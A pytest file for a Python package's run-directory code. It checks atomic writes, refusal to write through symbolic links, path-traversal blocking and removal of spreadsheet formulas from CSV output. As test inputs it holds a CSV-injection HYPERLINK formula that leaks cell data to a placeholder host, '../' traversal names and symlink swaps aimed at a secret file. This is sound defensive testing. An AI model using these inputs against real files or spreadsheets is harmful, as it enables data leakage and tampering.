"""Files of runs: whole or not at all, never through a link, tables without formulas."""

import csv
import errno
import fcntl
import io
import json
import os
import resource
import stat
import subprocess
import sys

import numpy as np
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from PIL import Image

from sharpjax.detection.oracle import TrainingSet
from sharpjax.pictures import write_png
from sharpjax.report import plots
from sharpjax.report.page import write_page
from sharpjax.report.spectrum import figures
from sharpjax.rundir import files as rundir
from sharpjax.rundir.about import ABOUT_NAME, Clock, read_about
from sharpjax.rundir.run import FORMAT, Run
from sharpjax.runs.truth_of_conditions import Truth, save_strip, write_truths

pytestmark = pytest.mark.quick

PICTURE = Image.new("L", (8, 8))
SPECTRUM = {
    "condition": "a", "noise": 0, "step": 0, "t": 981, "sigma": 1.0, "exact": [-1.0, 0.0],
    "asymmetry": 0.0, "oracle": None, "lanczos": {"values": [-1.0], "residuals": [0.0]},
    "arnoldi": {"values": [-1.0], "residuals": [0.0]},
}  # fmt: skip
WRITERS = {  # everything that writes a file of a run whole
    "x.txt": lambda path: rundir.write_text(path, "text"),
    "x.csv": lambda path: rundir.write_csv(path, [{"a": 1}]),
    "x.png": lambda path: write_png(path, PICTURE),
    "strip.png": lambda path: save_strip(path, np.zeros((2, 1, 4, 4))),
    "plot.png": lambda path: plots.write(figures([SPECTRUM]), path),
    ABOUT_NAME: lambda path: Clock("mnist").record(path.parent),
    "ground_truth.csv": lambda path: write_truths(
        path.parent, [Truth("a", 1, 0.5, 2, 1, 0.1, 0.9, 0.5)]
    ),
    "training_set.safetensors": lambda path: TrainingSet(
        np.zeros((2, 1, 4, 4)), np.zeros(2, int), 1
    ).save(path.parent),
}


@pytest.fixture
def run(tmp_path):
    return Run.claim(tmp_path / "run", "spectrum", {"model": "abc"}).folder


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret"
    path.write_text('{"mine": 1}')
    return path


@pytest.mark.parametrize("name", WRITERS)
def test_nothing_is_written_through_a_link(name, run, secret, monkeypatch):
    """Neither through one in a file's place, nor through one in its temporary file's."""
    if name != ABOUT_NAME:  # what is read before it is written: refused
        (run / name).symlink_to(secret)
    (run / f"{name}.part").symlink_to(secret)
    WRITERS[name](run / name)
    assert secret.read_text() == '{"mine": 1}'
    assert (run / name).is_file()
    assert not (run / name).is_symlink()
    assert stat.S_IMODE((run / name).stat().st_mode) == 0o666 & ~_umask()
    assert (run / f"{name}.part").is_symlink()  # somebody's, not ours
    # the name is drawn, and taken if it is free only
    monkeypatch.setattr(rundir.secrets, "token_hex", lambda n: "0" * 2 * n)
    (run / f"{name}.{'0' * 16}.part").symlink_to(secret)
    with pytest.raises(FileExistsError):
        rundir.write_text(run / name, "other")
    assert secret.read_text() == '{"mine": 1}'


def _umask():
    value = os.umask(0)
    os.umask(value)
    return value


@pytest.mark.parametrize("target", ["secret", "nothing"])
def test_nothing_is_appended_or_made_through_a_link(target, run, tmp_path, secret):
    for name in ("results.jsonl", "images"):
        (run / name).symlink_to(tmp_path / target)
    for write in (
        lambda: rundir.append_lines(run / "results.jsonl", [{"a": 1}]),
        lambda: rundir.read_lines(run / "results.jsonl"),  # before any work: it would be cut
        lambda: rundir.make_folder(run / "images"),
    ):
        with pytest.raises(FileExistsError, match="is a link, and a run writes through none"):
            write()
    assert secret.read_text() == '{"mine": 1}'
    assert not (tmp_path / "nothing").exists()
    with pytest.raises(OSError, match="symbolic links") as told:  # placed after the check
        os.close(rundir._not_through_links(str(run / "results.jsonl"), os.O_WRONLY | os.O_CREAT))
    assert told.value.errno == errno.ELOOP
    (run / "settings.json").unlink()
    (run / "settings.json").symlink_to(tmp_path / target)
    with pytest.raises(FileExistsError, match=r"settings.json is a link"):
        Run.claim(run, "x", {})


def test_the_directory_itself_may_be_a_link(tmp_path):
    (tmp_path / "disk").mkdir()
    (tmp_path / "run").symlink_to(tmp_path / "disk")
    folder = Run.claim(tmp_path / "run", "x", {}).folder
    rundir.append_lines(folder / "results.jsonl", [{"a": 1}])
    assert rundir.within(folder, "results.jsonl") == folder / "results.jsonl"
    assert rundir.read_lines(tmp_path / "disk" / "results.jsonl") == [{"a": 1}]


@pytest.mark.parametrize("name", ["link", "folder/x", "../secret", "a/../../secret", "loop"])
def test_names_do_not_lead_out(name, run, tmp_path, secret):
    (run / "link").symlink_to(secret)
    (run / "folder").symlink_to(tmp_path)
    (run / "loop").symlink_to(run / "inside")
    (run / "inside").symlink_to(run / "settings.json")
    if name == "loop":  # a link, but not out
        assert rundir.within(run, name).read_text() == (run / "settings.json").read_text()
        return
    for one in (name, tmp_path / "secret"):
        with pytest.raises(ValueError, match="leads out of the run directory"):
            rundir.within(run, one)


@pytest.mark.parametrize("name", ["settings.json", ABOUT_NAME, "results.jsonl", "spectrum.csv"])
def test_a_page_reads_no_link_out_of_the_run(name, run, tmp_path):
    rundir.append_lines(run / "results.jsonl", [SPECTRUM])
    settings = {"format": FORMAT, "run": "spectrum", "model": "abc", "conditions": ["a"]}
    settings |= {"num_noises": 1, "num_stages": 1}
    rundir.write_text(run / "settings.json", json.dumps(settings))
    rundir.write_csv(run / "spectrum.csv", [{"condition": "a", "t": 981, "source": "network"}])
    Clock("mnist").record(run)
    write_page([run])
    (run / name).rename(tmp_path / name)
    (run / name).symlink_to(tmp_path / name)
    with pytest.raises(ValueError, match=rf"{name} leads out of the run directory"):
        write_page([run])
    if name == ABOUT_NAME:
        with pytest.raises(ValueError, match="leads out"):
            read_about(run)


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (
            {"run": "spectrum", "model": "abc"},
            r"by an earlier version of sharpjax \(format 1\), this one",
        ),
        ({"format": FORMAT + 1, "run": "x"}, r"by another version of sharpjax \(format 3\), this"),
        ({"mine": 1}, "settings.json is not what a run of sharpjax writes"),
        ([1], "settings.json is not what a run of sharpjax writes"),
        ({"format": FORMAT, "run": "detect", "model": "abc"}, "holds another kind of run"),
        ({"format": FORMAT, "run": "spectrum"}, "model: None there, abc now\\); choose another"),
        ({"format": FORMAT, "run": "spectrum", "model": "x"}, "x there, abc now\\); repeat those"),
    ],
)
def test_other_runs_are_refused_in_a_sentence(settings, message, run):
    rundir.write_text(run / "settings.json", json.dumps(settings))
    with pytest.raises(ValueError, match=message):
        Run.claim(run, "spectrum", {"model": "abc"})
    if "run:" not in message and "there" not in message and "kind" not in message:
        with pytest.raises(ValueError, match=message):
            Run.open(run)


def test_a_batch_that_is_not_whole_is_computed_whole_and_nothing_is_written_twice(tmp_path):
    """Whatever line a killed run ends at, the file becomes that of one that was not."""
    batches, seen = [[0, 1, 2], [3, 4, 5], [6]], []

    def compute(batch, missing):
        seen.append((batch, missing))
        yield from ({"index": i, "value": i**2} for i in missing)

    def work(name, **options):
        run = Run.claim(tmp_path / name, "x", {}, key=["index"], fields=["value"])
        run.work("counting", batches, compute, **options)
        return run

    whole = work("whole")
    assert list(whole.done) == list(range(7))
    data = (tmp_path / "whole" / "results.jsonl").read_bytes()
    for end in range(len(data)):
        folder = Run.claim(tmp_path / str(end), "x", {}).folder
        (folder / "results.jsonl").write_bytes(data[:end])
        del seen[:]
        work(str(end))
        assert (folder / "results.jsonl").read_bytes() == data
        assert [batch for batch, _ in seen] == batches[3 - len(seen) :]
    del seen[:]
    work("whole", again={4})  # its file was lost
    assert seen == [([3, 4, 5], [4])]
    assert (tmp_path / "whole" / "results.jsonl").read_bytes() == data
    for line, message in (
        ('{"index": 1}', "it lacks value"),
        ('{"index": [1], "value": 0}', "no r"),
    ):
        (tmp_path / "whole" / "results.jsonl").write_text(line + "\n")
        with pytest.raises(ValueError, match=message):
            work("whole")


def test_a_full_disk_leaves_what_was_there(run):
    rundir.write_text(run / "x.csv", "before")
    before = {path.name for path in run.iterdir()}
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (10, limits[1]))
    try:
        for name in ("x.csv", "y.csv"):
            with pytest.raises(OSError, match="File too large"):
                rundir.write_text(run / name, "a" * 100)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert {path.name for path in run.iterdir()} == before
    assert (run / "x.csv").read_text() == "before"


def test_leftovers_are_swept_and_what_is_being_written_is_not(run):
    (run / "images").mkdir()
    dead, living, mine = (
        run / "images" / f"{name}.part" for name in ("a.png." + "0" * 16, "b." + "1" * 16, "mine")
    )
    for path in (dead, living, mine):
        path.write_bytes(b"half")
    with living.open("ab") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        Run.claim(run, "spectrum", {"model": "abc"})
        assert [p.exists() for p in (dead, living, mine)] == [False, True, True]
    with rundir._written(run / "x", b"data") as temporary:
        Run.claim(run, "spectrum", {"model": "abc"})
        assert temporary.read_bytes() == b"data"
    assert not temporary.exists()
    rundir.write_text(run / ("name" * 60), "a name as long as it may be")


def test_a_system_without_locks_is_refused_in_a_sentence(tmp_path):
    """Windows: the package and its commands can be imported, and nothing is written."""
    code = (
        "import sys; sys.modules['fcntl'] = None\n"
        "import sharpjax.cli\n"
        "from sharpjax.rundir.run import Run\n"
        "sharpjax.cli.app = lambda: Run.claim('run', 'x', {})\n"
        "sharpjax.cli.main()"
    )
    told = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=tmp_path
    )
    assert told.returncode == 1
    assert "error: sharpjax writes its files under POSIX locks" in told.stderr
    assert "Traceback" not in told.stderr


# --- tables ------------------------------------------------------------------------------------

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
TEXTS = st.text() | st.text(alphabet="'" + SIGNS + 'a",;')


@settings(max_examples=300, deadline=None)
@given(st.lists(st.fixed_dictionaries({"prompt": TEXTS, "file": TEXTS}), min_size=1))
@example([{"prompt": '=HYPERLINK("http://x?"&A1,"a")', "file": "'=1"}])
@example([{"prompt": "'", "file": "''-"}, {"prompt": "", "file": ""}])
@example([{"prompt": "a" * 200_000, "file": "\0"}])
def test_texts_come_back_and_none_is_a_formula(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("table") / "x.csv"
    rundir.write_csv(path, rows)
    assert rundir.read_csv(path) == rows
    limit = csv.field_size_limit(2**24)
    with path.open(newline="", encoding="utf-8") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    csv.field_size_limit(limit)
    assert not any(cell.startswith(tuple(SIGNS)) for cell in cells)


def test_numbers_stay_numbers(tmp_path):
    row = {"a": -1.5, "b": np.float32(-0.25), "c": -3, "d": np.int64(-4), "e": float("-inf"),
           "f": "-1.5", "g": True, "h": None, "i": "'tis"}  # fmt: skip
    rundir.write_csv(tmp_path / "x.csv", [row])
    cells = next(csv.reader(io.StringIO((tmp_path / "x.csv").read_text().splitlines()[1])))
    assert cells == ["-1.5", "-0.25", "-3", "-4", "-inf", "'-1.5", "True", "", "'tis"]
    assert rundir.read_csv(str(tmp_path / "x.csv"))[0]["f"] == "-1.5"


def test_names_of_files_that_are_not_utf8(tmp_path):
    rundir.write_csv(tmp_path / "x.csv", [{"condition": os.fsdecode(b"caf\xe9.png")}])
    assert rundir.read_csv(tmp_path / "x.csv") == [{"condition": r"caf\udce9.png"}]


def test_tables_that_are_none(tmp_path):
    for data in (b"\xff\xfe\x00", b"a\n" + b"b" * (2**24 + 1)):
        (tmp_path / "x.csv").write_bytes(data)
        with pytest.raises(ValueError, match=r"x.csv cannot be read as a table"):
            rundir.read_csv(tmp_path / "x.csv")
